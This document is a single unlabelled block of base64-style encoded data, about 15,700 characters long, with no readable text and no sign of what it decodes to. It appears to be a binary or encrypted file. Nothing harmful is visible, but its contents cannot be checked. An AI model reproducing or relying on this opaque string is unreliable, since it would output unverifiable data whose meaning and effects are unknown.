USKUA489UxN1sg9ElNKLowtj9KsDnXfK+p967JP/H5lQJ7Yvx4AFjrirvUQTNBqj/SnPAHGTHuDDySmw6FHywE66Q9mN6LY2A+PkZqN3ZO9tn/0Skd69JBHbzzWTcuCOCPSfdThEkNOun9Zw7nL0bdN3r7U1GIoMAMRnKvRwmooelr6fHB/MdJScAh8UszymFh6pjbAUE5V17BxxlyfJ4dNUnFqT6JgIfDOQbup+ql5c9grjJ0pOjVOQ0GDniL9TdRY0AKLYbhODOV+TBxvggodkAYD99Qot5Vyi5cMeMonxE4D4HNUAqCQovGfqoaISD+EXZDdQch6PTPWfIXNfl8QTQXyNPbS2w6bDw+WhoueZfZIVYE381BvjAWz+2LPAgiuAbGH6X7Y+pCfCOTkfVS+DQ1BTbN98mIOR8AbAaNWgH0gCI2D4qPIyo5gXiGCFGVHpN47RBk7v7fRt1eCbr1mYAKDDJ4R9fugwPwMHKU2j/0CSDzhV4TJzmyQkOtZxA+68g7D2B0uZAgozIzcW6CpRnyTInhA2dj8AwroCn5DmdpGQpyYeuBIICxpb8UP0Kf6ywBg/TAgvaD+ZU0Upx8N4tIfPZR9M7pExgj9vIzBgI5PrA5ZoC5U6WCwD9E801bLgiJLm9gRc+1f8a1YvwXhbdNhBXjwNSrMKPFBA1dh2eL9WK7eRAfyB+bAz5UPxTYRO6nEFTC728gAe4johhsnIfQ3gAvHy7nIH4962l6ZQsDUBHqKG5NUoECin4AlNPiMYXsAWgKqYvRBcVhZLPw+QICGPRf9Yoocl4ojPvaKAdAGHR1IPS4joGpDCj4+zvGgUFXOAN9sKaQcu6PqS6JBERoRmC84l/xeUMHkQR+rAiitAFiFdTsgeZELAT/S0sRVHGoLrkHLWkk+YcHiIKS6ecBJ4SzNAv0gkjh0pkEjMaweQNgZK8rL4encYnz1Io5I6yxtPJGpCA55iUCcIKsBDvCYCIIc6q+k+CRG7U6KjS9roTvfh6qejrzXlGtQcSYz/cJHzxI3E3nM9Sn5pRCc8q3AvwTNC3p7h9GHW/KdCABEojb4B4XM7Wbz9czQZDJTuE6SC44SR5oPQDYBZwricJvrAtPPeA9EKkRn5ZyxUq0aziBBmwnEPsGJuPx+A49l/oc/fangFkjleBJxxWIHz9kS/g00gc9+dDUv2o0Kjo11FYUQH4ZkuOEKL+Z75F/iD20el8wBS4iZhAjrhA4qWNncnMAky/ovTbhrF9RHGvixDpuyeogICGGgb9J1nEcRSIiO1ov4GNSg7fxwhA/0RaDMbORMNLjHz+aQT1jsj+CZYciGCeEk8FM1PE6zs31chQug0WsQvoPGLzm+G4AA0fAAaushw/j89XcVwUPkHtap3IHZax83Od8RkYEjJvWl/d8Cben4jP34NcjTJr7ojoZrf94jYXQKBC+ldevHJz4jA6F18C+IJAfz5P34OXiL/iS5Jl6gsAxDU6eX8P1uGTMDzXHiD1Nh2ElXzyb4x+GKsbHKy2Io456kXz8cJk+N3HAyJ74emZ0jCzmmgxdWVJ3KFDw36+Bjoe14KvV/7xIhTTMg/pWF44ILfVWvkMZop41rdHNQhMndoBexywPsamgXrQ6oN+JB1j3HCqA6omjtOOWYtWHigOZocYfaWaLIsTffpeOY8QU06gsIk8/MXoQ+cL/UK/hPMBRwerIgA2Sh7gHR43EHR/OpzekIIrH2lM31TKhUNEg4p/FmEG8Zrrv+POOyq8RfkF6EFPwRnHR3igzNu7n3MvHjdHJgG6wsZwUcgGZ0Phue6z4QUPOzz/QOesyUD3ZonDE5KgHw9p8xzGRPDzkX1jLi8lM40v3+AemFNdg1PNUB5K+GzOo6Tg7vxiINT5OTAxMGyhgAgvI1ZHSb5z/dRaka9yteCUm0MdB+HMghWQExylNpCMjwAQjBRKn4Xt8Nv5I/k3gYbMxHn/FaGBHjUkeMZK3iHrhcmNtcssxrx5/Nmn2P8Xl/mTh8sgUhb8EjYmDJQgs5hF4xN+Jb5MqILYm4w6oZwCvNHQ+pwOBopQnwOKFO8xrRRQmCVRjfj52jElM5QslPDwvr1GydfejntNff45c7gajyEu4jM61NOMWO/WceyDy7iTImvZ9fJlhsSz71iM4X9m6QPqrn/Cu0hN4INeOYaGaXGZF2W+50Fj2wYyTMdnAz9QFaNNYpsSKtem0jwWt7EEIBHRUVvqTlWRDkAiRlL7BPmTY15QAiDegkWSAwSQvp4LHVp2YnZDDSOlro6MShI0FAvy3KwPh4sqSEV8YKexf3/jv9PrGMO/Fi3Evu/r1Regj1jyvJD+Y/AEiB0Ei+DpRP5zxAWSArsdYhwOwdEWNZVgVBBGVMUUyAlGN4yH7GpLVgZZKAIIiwox8ryPY/kF/MhgszjEurMqsfsaPFFL8Y5AqkATrE7qrUSxFf4SaqbFW/h4it1jLd5RrgFcuNGR8+Zf4xRtCbWlXKWo4D+qhHFeqH4Hwsy8lbiYepdCX3XAddGyInxFzzicy1CwOWJtCOCGoHuUNSHDOEbe4gUHwPRFjD/Bv++Q/R52oPy4s3l+AMJKq6rtNZQKgYw8YwSe1i/H/06+TNBJMz7BLa//QyI92gcAKIzuOjzqeX1EzImQcnCFWKgTot6Q3jhEkFOeO55ZrITcoYJDpZLsTBFwFpBgpPBp/btfMTGWaGdBBUh9FpENiOoCAAREZ+ST0G5yDJx7xjyAiQex91ovjiiE64Z+KW8+LOOSYVsoRA6nkf85M6vHmhQJUfMS95lHJO9Xwz8rQA8XNEfWqQDMKERMHVJx4fKLq9QxkEzoN9gnSymBCNT+QkutGHXb4MwT/B3fsAadR16sGiYxU5iKWk2tZuht3ICZQKeLxcXKeBjrMKPXEXPTrMyXIZlDJ3NMQ7BQleClsAV8DnLgQRwph+QLWPVgRmlNqgF7UqUCegQypfeLJuPpp3+OE1tGmT7DQe2jixToRc1Fu0D+9EMPbPZXDItAjKWa3Kn8R2KHAkaoOVNcEBZ7ml5/10mbzOHrUNutHBNYAPwBihs/lijjZofcwAuDPkJ+76sIhwZATI6A/4hr9XnoqDURIw5XlRqGXERzF6tQJY3Fzv3zII8/a1BWvxdi5Rj7HC4EAh8pTW/mmH/MpgOQnU/xrRArJk5A2CZDEaJmodsqKXvnx3uYS3q6oLMZmk88vvTW089NA1p9IT8JT0TfBeqJ8Mi9qN4EyFStZ3/rjtd5xifoMHPmV6seIoUESZdNTyN11RUGDCEk8g5+J1pS2coNN4XQpGkGxxFEVhfZsX8pWyNfyOB8/GkjCfCao8+B+nkSlCrL7BMcTDnXW546AIkazPD0MqBbghAbJZ50bkfpQIs8fJjV5xGLsfwjSGXHC6VTdmCRuEreL+gL0L87rDoLNMeUg02AKt13whUxsXYU+4bzmsv3FUWFewRWO+qOA3UwhVcFBMHVOJMJFlxDJ4KX4yE+8mY5duMh8Pn2zA1cs9CuEo8hW0zu4d0avK6yJE+Kw0B1ClJKbepFgVcDBE1H7uPRpOIl4gPvYG74eUXntxIznca1RbY6sCtTwlBLmALgA9IyBwAplxoiBBD+4noam76uxkDaim49jHNhOwcMIXNww689awiE7Y9A/hU4xYhzFA7yuR++Mzaz4PYYxChNQo4qEHqOzk9g9sAKTSVD3P5YDvYa0G71HJZ7zOManxiS9IIMW3iK45lHfV38+baIPpOsyfAcBqsq7z0RQyMC7Sm/kMIIhd0kYwl4K7IAdGExSqxjZWO9h8rCKYv6KH3akvgux88goPhyzKjLf4nkA+IMEtjftpr52PBoCwYXBQFoA+/jUFoKFB2kwLULEN7oXKtopJD5w6yIRobjuZ1ZOFW3qun4AGARQmredI60nT84xFqI0Oe8voijT0npEaw7c68r4TRGioC4B4xCnSf2B5eNQm3HglNWRnx3B9YzNVB3U5r+AuniC6z+azOg0drxoCiSJPFiJcR0UiIvVbgbN9jVQwwqUvt9qtw6B4td5pGs9f1wL27EfLz6ij7MGDvytx4cjiKiRwUT0uefo5kky67BUkQdNMzhsCgwMW0ILJWOsQv8bWwPKLZU8FJRiMFYAq6fmIiDyHLl9FxDJ8omAIR6/JY848BcYPsA8ziMPmQbojIa2H9daQu2EgRzt8Vjna1M/xhnR7NHvC0XH5KqrZDO/l1WwPU9EhJr84BFdvM8m8zl0MeiBsY4/aaK7Rmo4/vhC5bKNiCkRLfDDrqBJIuBHzPNLCd2HEx/t/o0x60RJQEpDXLEZM/GkniYR4YfiQi4Sg3VJaugb+S8MXiZ7nDwyg9ttQJ+MigS8dIH/y1uBeQApCcHgHf9fY3KwoLNP8zuClUNBsoCHQdEalVnjFqGx/geAih5RXDNAFntEwqAajAIHSCThk9w+HIhtj6T8CC31oCmfufziRDVFhaM6rdiGPrFzDBBfJhVYMb86Qvsv0q0qckIEGUelxZ+OE+cCoKYOqkVzR+yqH6uAHyaak0EozQVxSyP6yFMlfd1LI65D4AEFA4TjmFQiKXVESm0tXWYQBUyg1ujaydBSlj++puM6rFEIIz+A857f9w+0l0NIBhDIOLRoGWlMC5rtZkPH3omDzAU4PvhemzCtBBpZNzJi1trK+hV+n/UvuSLujInXDWjB6ekD16RAqsYXR/KfBRKQVLz7TB2bfL5CaHgVWTPNCsZ03shlFHQcha5y1/X+yXdjZHCmc+aOH4M2A4KUX3DB7j/he5INxmI0e56Lrm9GTF11vx7Y5CgE/DmVpzZrfvpBFWLmSWg0tB/A3UKJ9HEcnXrETSK7qDDqXzf7GCfAleQuYqf/LbcsFoGpPDhDHLkB6xa6FgmW13kHyX2wwc3V+5KRuM1/MFB/BEYcF3fjOPHA0M14dNAK7hH+ax3HAlq9XkESCqKbu5m2yf0AF/4YQwI/bccuNBn4LPu+NONYbENWfQozlBnEkaBCQRXAPK6yoV4P7UtgwlcFugGv6lFU8iWsmKMCMQ5WppnlOEXFwoD4YupYA8Rx18jAMa6TiQ6nwIQYQyn5gYEvnOBdM/tZn89UgcBkUBhcsp4tn+tO+bqkxsxMXOqZwfDOif8LM1is1/hoiuyls518Gh8+xFvkKuj4gb+O4nv2FBNwh+IgGaWzfsDFtyW0cvFTBRwRO/lRH0LVh4E1LofmXzRjdSo+ghCbGXRo14Z55MhbPg5JJdo0w7GPbjGfGoo4GipU65gRM6pY7c5qi2VER2ihkA/Dj7Wv827G0MrZeZ0OgZX5QQrVUgFtGVJI14O8Y3ECBQRfxVWsyeDTA/jWCfXEPaBR5HY3IUUGAEqT5OQmgnkNfT6eNPFYK+K3xh6kyYd4kANARVQxzHXlj2smidGUTZl9iY9nRYJ89GNMZdSbapOouYqqxxsLPv/GwQ9zEawEoHsMEowZx8z1GXHa5q5GFcDehojA0/vBRdZI5sjaC8z6ixGR92BrZxgQm0lKyZj8th1/HicPr/6kUNDSZxeB8xgSQTZMMV9EmSduzio+fovILNNDKoTPG6CAzwqcwEgYZzGNk9h/JYFciZzgJhvJBp820aY9UY9UhBYxeGAdtBYn3lFSg5En0f/NrZ74YP/4HCNxwkMkEv3i+sG4gi33jDZSJ8duv4HUnBGtQHFsqHzUQyhP1ZQFKLolyAgyOYegJFH2UWt89hd917cgxMOfZlIkQObTDT/uG+aJZQU+m9EiixDDz5FHqcGYvgduCBDVj1FdIl8LQojHxfQ9dODm5UnvTOND8gGxJQD1LKnK8LoA5TMSPeL4xuSagUEuzotrLuSpc0tVOjl7/AC2d4szie/8Q298ejabqp9twBHi4NIcsxA8rQNlib4ukedJVCkZyhcMbHrNSB/I19YJFYhrvhslwACUsc3KcV3jOr7E0fu+hRqfDcPkFxHwR2QajQ9sDAxmUZ31Mx/0h35RFCpsAHfpfIuVcEdOYiykxevryWtZABCkyD49MEvGLDEOQRoZNlSWFvsGW0AhGcuZ5Imfr6tLQA+s9uVg5guryyOpGOJZeuQjKkHCHVvI3xQ6Jk/C/MzlMjSO3Mh9HfjZetKA/10YY3M8zMIo/EOPjNOKYPxJHH1VXg0MHpJr3EMmQl/3v8+Zkn2c0Oob0veUQC2lTBtSUw/wbKIK58IbxfEPBbIRRwbMgNJthR+xRuPTk5AnKiP8y4FXp+Kzt/p5wHUyaMAWAqPhNybx8wYeT9wZEgNUxzxGSjBRmCRa8zgmtGkxqIIPRQWAXFu7pxEtaBM1zDnEzKWf6Gfop4j1DRdTmZFPc3bwmZliHx8FCn/kyRihqgKOqaIIAZ8gyfAtN6XZc8ioZ03Fecwqv7Fg53O15uR9xZit/TgeT51x85zeyB5aBYMFRsZCjMevREbcSSbN64QzqCsAUp1GMbGmsGfAQ3ImYiWnT6gQyKGSzTF7gbU01jQHwSaZrdx6aH/taBZFj5JeFKoYZp2PZcqxKurxTwMYzM9ZuIGe7wXEfPwzYgLxfEYlGGpKLxax7268qI4I7+yoqKbYIBCRiFFj5KQnsl//tnri4jzgBC8ONL5gBhvWwAsVb2E6k83oJ5MRjYGqOg+Gq7EnOibdaKdQnj0AnAPFNJ6VXgez9ycxrC5cvmITyDljcqufOatHvXAl6607uP54IjQlzg7XNSzzKFqZ6QZ6iMAjZlkGfnxAoTMCGMpt/i3UF/mPOtjSqOc4ifBrGomhNrqmQMtp3yS5kKdUW4IjpxCPpSvza/6AUcPe6opwMXKpqEhm7CWPYaYfBJ7WxiTFx74MoBE0lO1AYJ7fWSW3xort/1us8DfheLs1tZdphvP6fb/Zvwu/gENH+5rqt0IGXzzzeZsV+J1kASBGlR1Y6jYTMTs3AU8hVzybmhrkmQ9Mjn98IDsQe4bQx9kySTj4M/MdSCMYkQXIsIpPXJUX6XE09wMnSu8UPmkPeyCOqglEb0q+F7m01xeggawM1IdYZ9bJHDTE7Gi0n0L9FuR68oFES1fziaqEb3yuADD5E4GMqext59exMuUl2yP+k2XlAEF58j029UusqueUnfaXz/C7dREN7d3dqdrMs9+4ZnhZ+nn1N/BJp5SK3xwMz7j4szWgxsKoQkdi9IX1/66QT5Jgy1WmGutKGC4/MVmkfxlYiRs5pxz5AAd7/0HaWVTFHHvKsgsIxDLP7KRINGxZ1MnTwxXHGs8Rgqww5eXfmq3yVf1bwy8MhdzzD8jxm+l8C0Tesz8A3PB1dSSVnqOM4xmCPE7HJ8wzlVQ2E/GLJ3B66hZVwCCAX5SuO0j5qCn7C9LEnThx/b2/rK1Ci+SbDMrG8Lz0Y3GQyyYsXQ8v7pXHUxaEzgCzHU6B02SA46/1BZaqTu61VluGhy60eMzp9N+oV1XbnNiZIpoiQF5ygVG22TaVhuKKJjVQzsGVlhLN0a+sU+WhQfKf1PYa0AY/Z+R/nwl9fUOZ0QZlAQPEj0x3Enb7HXPvKzYVCIp/La6TV9j88d8+Ose2oXk6at/AuEZJ2TbyEb8lvLdgFThGFtMqFT678Z44N8Y65vLTZT616/vwt/2tid+VJz0Wmm5gNhUxxKPOFUkoTg+af4eY0TjMV6llG1T2MF3MStg71MJkmDNhkZEW5RKY1UtVBn5xqv1i1i1kLI0gyr0s+EtYuG7J/QErcjrL27O2bbauJCOk1a5Gx1BDGl2VnTjl3xC/0U7z+zs1ZqQsDAbsPzjZXQhHcEay7RNYNJj6nM+mEosSVZO/cc80JbKvTdXWMlebze+So1vzmiCRjxEAbF6fqyrj6d3O9Ll++RlpGHqywdt5ZpRZI0GWbeFbOYnL3wEe0i9y+W8P9vxtRi6UOrlMfZ6yqS1s/pCw4dwBGxxnOVBq8oz4efKhEJ4VBY+3UR1Lb37kCpG5WLmeWKvrq0XIKiWf+ouxb9o/Iw20rKLM1K3w52WOihVNpTPBfuXewA2tEVfxg8pMnU+qmsor4lqeKbnjq6/AzJYPiHlTgxmWd9gnkXD6z69YmfODrTAz6itJTgeWY5M17pQWgQPHvWwNtNBZo1weVK7RjnEEFhU/3F/A8CldfOf5DkAvv4F/4h4DYOsdj72QDYnBVtZcJA90Li9F0Wg8Miaf/qa+UezyCJWuwlgryTwjDfXBZIu69inLNyPrkqlRf/8pPxaBKRzZjMvX8oCM/711D78Csmzbs6WxrqfgyrZGbPKCbTXB6UpMmDAi1mG9VlYww+IH1xnvO2qHl3UGsu28j1ecSKBDO20+PLp26qWSM9Zw3XjLd/2SVLP3mZbgWIM78fWv8wQI5W8BRlMhdrbhWhl9JLAL/DRvt8+JOnFL2+uEPsL443z+DY7jMqEwIy02rrIESdlK+DBwv+GNK1pfAKSZgF5l9PRcAaBLvC5ttnDGQ8HvGRkLRv+YzYiwsmi+rVRnDWnbJxsiX1roflUXSZ/imhlgKXkrdojEDDJHxafgWXyMjYTJdyDRRtpXyY6kDPBLwY9TY+w7WXMk+Pbxff3bArf9MSCf4brY8oaUDe7ylDRVHJpxeLlKY0dSgwMn+HXyTvq7E8OCsrgntr+cvGGqYvlmFoPWtsO6j4zjHQXKAYwBeXdBMw4mz0UedQmRU9SWvHylzmCxL8HvvrrHxxxfX7uOAK/z2mMrMp5dxOdAq+xyLxzwZIOJG1+Xa4V4yyW28mpKYeul+4C5mPKow7AyR4n3UK7lR5jznb90emIOV7rWOdikvfA4RwB37ZzZQI6sAzK/QNpWEOknE2CQjvPOpQBBnSbOodxhF2mnrrV80u9zecT0Oh8okM4QcpBb4X6DDQ4t51G4zXhbc1OQmL1/fqzGpWJ6JTaW5/HRfFFpY6XHHIADGtuT8HanSx8ONDl4+JRYZkUv7/QpSwz6qhVeHnS8s3mRQwnsq+2vsCe9woQwTOV3ZEPeDtzQYn00AIZwsaAti2F0Yj17SmxtGDeyGewIcLap0rJg/Vt+emTGAjsndwJELWSxGwAu+maQKadv+73BrqxABowhGGt8wbZslFjVtn8sl/Pe4WSph8Hp+y/dqLh95e/r9fzyXVk21j0OFd6DAyhmolYGaL41hMSR27mx8bSfC7/414l6ycB4s+KnLns44QPE5E0DHrqdBHbFxGiB7QgDJiAcfO+d6W2DsL9Jn+tLl8+vy8ZAzf3CF6P2MzMce+Nr+2CPhxxZtrUEbptvv5Ibr5M4h8QezDT3zEPZks8mSiK2TqTk3XbkFdWC8Kd4GyU0P3oiosxCxIx/5o1NKK2sbyxRGrdpFvqyXWGmTnG+87kOBAfjxZ2yl/yTIy9dAjBZKcoW3siKMZJLpTJ/fg8WZfDFRub7PPDD20zVO+PVn63be9BvlN0uLM8hB/z1f6+zb0unsXJ/Jbszyxy7sVcK0DtXihAq23y/quL5k4wEo0XXq/vExWBP6zwuu3Ne+Vp14EnwUbScgoRTbSeN/X4rDdZ/cfjIU+1COXaVKc7wdzrs/4UtiKomklKSeXiJypRfpuOS5cL43rlMfccb2AI+9oxfpm2z8AzITpsp45Hq+SwLKytlgZ1pjf3/868pBZ7l/G3Mec/5pQw2jjC2M6zkd6HnrG2XGU7dc82wtmQ77nOocmcqKp7XNQ9vGHcK450GdzeUj/0bgQZ7P+Scy1ShnnrmsgzuACHAhEj/+RlMmMlQr/tI/gQyzjeGi346WoYH1FPMcf6/qO5KdHw+7v00Box5k043ZifHC2xTkya8bDhTVCgPXP+C/ZzWE075JkMcP49rpclrPk8ZywD8cEv/N/dYkyeNZKZMYre/GsLBxTr4GKO8+JvrdRRDiLR93Wk+rWId+yVNUUxa9hnYmj5+hoMhrSqhvOVczxpxk3IVnB2+NkFdjInezLYRPipGb6fuAwLjX3Xt57SxQa+9FJJ8ATTx3LKePmkbQIgSlEEJFNuPhaqEYUffrY3brsWXkI1lnXUPI4T0FdikdumO26i5lh/7JH4kSh0DVBaVqzYY25tlbZP2Gou8m741c9qqMa76pBtk0mNVuW1JRh/e9ussReOtyX+HWubf4trbu09ZAUa2bC6wtkR5jvJWHlVNgSEtBbkzGZH+E9x8tm6Av/DpGDjLKI9I2ii36yM5Zx+Yeq76eIX/MHnB/IfzzlgUb7wjJvEfz22OsjsaO+Lw2zZsPzDlU0fBUEcyIjHoLHqwbHOWaB9FnWeGF8TEiVQbxl/8ieG9+9aw40WqVzYbsR9XtkR+ct3vLJjBWeHPP8VE9AYN2OdNqFEODfKgxDLeTv7EgA1Gj3svCMiyzVkgEtn/D+LkB8D2jYPlzDoe8xPbQUBkZepPjk5aQcKmjnvkGjyLmFt2jK6MfhpfaV8hB8DCIK8R4HUnZ5j+fuGNq3vjEEzxffjAbhZonIxtk/NvBfGlTMMTTmZLHOTGRuBdVXAf3ptTxrdfYg4zEpsblh8rNYY/jWzs8X85PeI/TYpOrmwaEI1ln8WhlLiEvhkDePPvNdiuw2yX4biwQiZit+VI0umrARa1CBtiGbKC6KPwWmTwzefGmM/YLG1kIPH+x07buJwd8KJssfSmyveIERl+xlwB6aZpQ4dt1AzPffNsRHE76s4h997p39O2iWmXxfyAXB7OA4M0cHKunQlqZsinBZMGN7b57XvOXfWrK3lQfOAzyzBd/n8wtovCJx3ztPTELDGsU2HRQD68GB3Jjh6V7j5WGUcZmbJpZ/NJ4MG1krYVsiilx9B4oSkAU55fNty7jI418inzD4P038UcsnsOwr+ipjXM+fpzIFdeN7kpaI1TV2kjNCl2oRKFO25mUcasARepgXsryojxOjK47OCnkoKH3+a3B5sGSTmFmvuJ9CyVtxpS2ujiwSVlTxQWR2K0Ge+hdwVHiLk86Ma48FDn5zu6cVM5pLDuEYOGeSnv9dXCBGDCgc+HZ6xKUzcr3f2fK0PteGXvJO68rx5Ivt+Xuj77K0zRdOZSTo9JrNcJ+CssvIJqyiZrpv9A0jo8bhXVe0LDiWJ8WZ8eivzMgQxqkd74K7z4sim/5RkD/jV/CC5JdrTN58O1bNKPjxr24UuDzF8JWV9sHPI+K8CY1gUAHmfsSJZIz1utUDjAEjDEnE8ZvhqMDhXI741j6T73Vpq0MnQY7aMTJ7yUkVk/YTPvbRhITRWSq2zT8n9swlof9yzxgShv7DZbgMrE+qgf21yp+yFx8YGXkzYcHa+aiJ3Yx+CNPV9s/mUEZ90lViqtO4EJBfZXn58gBtw3f0MWY3lk206L8RH9reqdvfZ8DN1MWKPYF7nTbYzzupL/gf9PUE9Gk4K/62KMDxGu898H3HvhnCodKto2i4xOE3m0cn4XHthsxkwxbbANxjIb3bPzulh4zO/BqfUQH/7F6dC/CXvl90U2b9j1YWGPmObLzP8eqJJ26dmWN4bKxb3GRYSt5/h73fvyS/0sewIHqLZT+++bJjOG39e2gKPIvf+yKxkUyg2J4FkRH+R69jwOAz/8oV8mfLH5wDQCEFiPOOZwsn6K+hbtF9eJVeWmnQJSgdB8SENGpn7WTcSHQ+lfBxuNT207aMI7JeKkuoqsO8r1ci0S/JCcA1gr47spLsv6pxBkCuDbNfM+vy9O71+yGbyeeTA86ttzTsj/46KH/5RoX487LI5gzWR8FAIZ9RmOf+VcKw8z4JMpW94/fEQnLIsoRuc4vFWxP//19tzlIAWz0cdYk1SG4up3UyWq0hsLQ0qadSYz0Geb7XFAkSHXpBnwCxKSoFxm2XqSPr8sbLts7RzJ+5Rdx4W+32Rd/Ufb5D4WTLhU429zqnFcTHru+mPjtGdL8tBirhGBsYSPp8x78iujwpOAaD8uh1lWc48FJupazrtuUS2MxqJr7wD82eA3F6dNk/y/9iNSdqq2jZ/FiD/P9hhsIzXDm59g2SiODP32d9LpfJZkpvKnDW4JGLby3/LvZGshbaGIzAZmIzHnJPyrm/z5yPeUmE79eGEMKApc3DSw0u9gH2OLMT66cgBhe2NdB/ssn5yrOHwPa+Tyc/OjDFtpVULoT2OKGjdfJu+QarbZb6hj0ZbLFePLimv98thD3inZVhn5G5eKMmm8PPVOHIuvCuuS/nm3cAYcLmVrzq2X7XL9xE4DCTVgW7JlYz5liK9WnFuADp0QpaIJufA7hjSLX8LxK1XLwDtbpHUhfDBO27UdNfxesmvzR2F9hWgY+9SttDJxdHeF7Rc9cRK9ZQIu4GzH9VIN4zZA+zJSMu83G9LaqxmHBcAofcAobVno6JBQV5cN2h9WSr94u7apLWT5ujmXMfzYcQ/q5Qgx3LbW22G4ecLFb23N9dnXvc0qcxZijLJ8Lsek5xgemKHa+bOLZSn/edszadll9LjvtcCVBhTfxXalXHNkaNN5z8/HwT4MXICLlraZsz43kD5i5MgGKJfQSL3TYUH67SUb/BwH61BOEsq/setSV2bC0OOS5dG+ZQ/73gLckgPT3oKPz7DPznaZ1FDSsWJLk8ESt4+9631vjY+vleWm9EYqimRe+ROKPsiV6c5nuaoevvVyTa5y4u8SD8f97y2Ik+Yw4ywAafv7ZDiLg7l19TvnJC8+hkTze+Cyf5t/sAF7Bm+Za+p5hc1N1/NdVgpnpd/oi3TKbKMXFT+u1AtVUc7P4RHCx5Q9xGHE/cjsDzGHZPeytUvgXgjheF6Bqwoylg0fSlrAnlaCWnZvHtaR8Pq4iwO5MgrxtP3AwgkG6ngDcBeuapfc/fimwo86v3Lk9Ad51idkBVdSIA85w/yqnJEKFBQaZ300OkflEocqn4NJbTtS6SP7cU8VPmRRlS43LtAh3U6hW/cdybRXCvs/Z0skwBFOhnaeETn3ZzC6y97++eWa8tqy3SdD8+PRcWCSAb9b1M/bsw2f7T5+4iELRvgDTYscpf4AuwfOB7Mvxgsy3VZ5RQL2TJJVyS57xNW2dyRT0MLalh1d3qSY7QrXU7P9EVWu5U/Cg3yn+9mFNobeMjrG2TUnBZe0EYU6LEQx9PLGEzi2Xds0HhffJvvkVxssPJFLHmckYyR90fiY9FypOZM/RfY3UDmEZHzgxgQr9hK5zaGIlCPvojGFUsPjEo9w1Y34e0alom5bebYl3TF4U+IE1UkxIftXddXCM3+NfUrqwNqWphVU4zVpI3H9wXv6LAwH/6r+sdbCI2S4so/mUy0C58IhvMS+LMkckMpzuM1F9WwuBXaZ65+J86dspU+bZI1lhBThLeGA71e/I9s+6/IyZ1LLrkfnQamu2NXbzRXq3hGFxYnEEIQcC91H3IwesEesR2FnEVipCbDA0d5bNzHI4XJ/hXKzfyDZJSsOTq+iuC2uP8FSZyzhzVESz3fsY5W/GPuOOBnz7C6UlqlzL0r7isDhwPhXfu98CfDmmyo6r1C1l20v6R6gjXmv3/5dIbkeWnLPkJ/CF/MdP6xOq3SMyj2m3MiO59L5QgL7+ROmxkR5XM2KoQ3KNrL51pq7ysCu3h+pJghVuQivpI78b5bmtimkckwtE5e8TiyMb44s/l3og5EkiTPbOlsGmeOTa/gFZla667cpg5GPrw3kph7Og/FcDObYJdpJU2MXCLdBhpW+SVGFx+QTHzabQfNjFzc/y0jJyLxP4Tq2oS1ZjZPz4cjyBMwdzgD5lIJ7twadyJAT5fT0GaRo+77Q9S3QVOm30QxxfMphzHT4IIrX9MFKyem2VZkI3O6FHaGdTA7XspebAXMmPfzEq7C9oJ2uj/B6sq32lsGa0/au8Z8YrrWmT8o15UnK5ohOCzAr7fC8vxzlER6hWtTMfZZ+w43+eT0UIDA0ClL7zJSBg/nHyO7SIfWSAVBXdQZyDmZuiLqd9siwWIQOga9c8Y99fxwtJ+ntlnmSdbjjKaZMRuyOm4gwaZYC2kKT3pPIbVW6jkvfLWwPDgtdwmlOyPXHOEe2PjKBx+/vv6OzloWch/40atf6ZX22Rr/Ms2u8DJfwaYAOhrxesswjx+YYmyUIhhrNqOQc+wkV5aMRwLYvFur8bl/gdlmjOvJY6NyKh+AmLdn2/+9dMCBvA1JmNdabZ+liGXJ0NhKSUKHMlStHp3T5blvaUR89V8hWC+CQm7ug+McnFLwnchu2+wpLd7QreZACnB5GdSOQ8X4qUPva1Dr02vWTYGO3INkcA3YZS4GuW3CVWpvf+tHNeMb5n8kvbItrLLOVyj6p1YOArIVk+DFf4XSxfty+KZKJM7FnG3Q4VkFkO/SREPiU6y5VB96/u7xTeFwnZbPxbIm0l7cpf7ckhj3iQ325Lq0436hJfZS75YAz58lbXIS+S0FuGECqVlvKNq53EeEXYemLOWTsc22NnfPvSbtM8/zvEa0yYOfvzjAYY2PPWwJpm2XUbgAR1muTfJnW8Ytr4+1mfAx3kODhn3QDyqpqLRkkGd0ZU3SexC87P1lkzqie/W2hpXPgxDokbGqeEER6Va1UgxkFFme6/KfIDw9VBZALJlGWjJxM+pNzLs+PEnxlwPKkd0QXXic1mmOdfMkbxpCEJp5goVel4+Fg5jGzQ2p8sX6vCMauzzUX3JbBzqrhMQBxDVc2c8wvu6i87gNcaF9HOxf5wIELyI0ftafIHotb/3hQwCd9EJwHZzQGL8hBydMseDpZ0ZcPha09y/2dDJbhX2DQ8uafPT7gowq3VeZGMVj6tYnkmo3RTa/BsoM0xS5RdD+hg/VHgewL2JSxhIWPaOqkqiurxhU/v0gALrXYliuF3h1aH9hDyT1Qxqq8OYYtobeFheQDYl0jNhjGHGBcXzMMMGwXz6PT59ogs7haeE6K1uch8zd4pJsCK1uPOW6OfV8zurDB0pzq/r+3HGDcOY3KnVh3ChncefBRcM92cED/GG1GZ3Tc35+7sCFm2CafZ+wYH48z610dw/aJL11VEiafjZed4N9aR4+8KmrsYZpm4iz25F/xXCDfWwhT22qTUmfRvFvCQMQ73pmG6ttP+jw4WgLBttMtl+eQd3ztEIfPXttcDfVzHrKb8+/ky52II1x/2hJ2sZ6/51uj9h22bf3m5Dlkj8P841GOfKDyPHy9OQkFhWOn/ICdYPqqYBqRNl+ipO83ZOQJGE9ibByG7QbiXuK53wy9RuhVp47vP69m1SXObyuSFkFtqVuaj8zldnt6ZvHTsO9e3qNO48VBpqg//7jaFsFfdkwRLRuEZl7Yx+GSW0Z7rn6kFs6yqRCkQ/UVTtn6qmBTCDKg5iplfsZJjP7C6+ZjFfCMDuPWyOcaHjebbmYBGkmWeeq30RzqTsLxhwiWFBChYUsf1oGxjq/p29PBifwImOCIGZ+yxsPc3WQlIUetJ1GP4OjL6d3mPoxtV3/0znSIK0+gbM8Q7xNcXH/HFd+XWYTnl4wlRPkcE2b1Hr+w2ViMOQWP4cNyzP6PM++z6wPaFnlcvnE3OePNbHpnYLui0xa3CKPkk+RspwctJbo+1y4zfhwIZ83tIaGFVNPygWZ8wjCB9LygcS2/DK97hC2nVyoFxdGcXJ7+rHfordZOh4wBdqqUlN37T7BTI8+Q1/ohoVisflvELEBoxbuUGW1syYQNk9DSD9Y2UkUaAhun+bQlKdvnBO+zBlIL+DYjLSrMN9OwLRljbKzQ2FhH7Qsh6pcTv/s81lfWLzoa7KGwj4T5dQxWWnvX2tHGOh6bqJN+tmuReOdX+95Be3FBGmOTqLEHemUuYx80HmNsfgWkDR1rZhJPPMCKXMHY4uzrAFypqa5qU64t5CX39TU7iayE2